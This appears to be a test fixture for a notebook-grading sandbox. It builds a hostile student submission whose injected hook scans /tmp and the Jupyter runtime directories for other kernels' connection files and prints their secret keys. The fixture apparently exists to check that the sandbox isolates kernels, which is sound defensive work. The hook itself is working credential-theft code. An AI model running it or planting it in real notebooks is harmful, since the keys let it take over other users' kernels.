"""Reads other kernels' connection files (runtime dir, /tmp): their keys let it run code in another student's kernel."""
from tests.hostile._common import LEAK, Submission, blank_answers, insert_after, release

KIND, HONEST, FLAG, WHAT = "steal", 0.0, False, "reads other kernels' connection files"

HOOK = f'''
import glob, json, os
_mine = os.path.basename(get_ipython().kernel.config.get("IPKernelApp", {{}}).get("connection_file", "")) \\
    if hasattr(get_ipython(), "kernel") else ""
_dirs = ["/tmp", os.path.expanduser("~/.local/share/jupyter/runtime"), "/run/user"]
try:
    from jupyter_core.paths import jupyter_runtime_dir
    _dirs.append(jupyter_runtime_dir())
except Exception:
    pass
for _d in _dirs:
    for _p in glob.glob(os.path.join(_d, "**", "kernel-*.json"), recursive=True)[:50]:
        if os.path.basename(_p) == _mine:
            continue
        try:
            print("{LEAK}:connection:" + os.path.basename(_p) + ":" + json.load(open(_p)).get("key", ""))
        except Exception:
            pass
'''


def build(ctx):
    return Submission(insert_after(blank_answers(release()), "00-call_chain", HOOK))
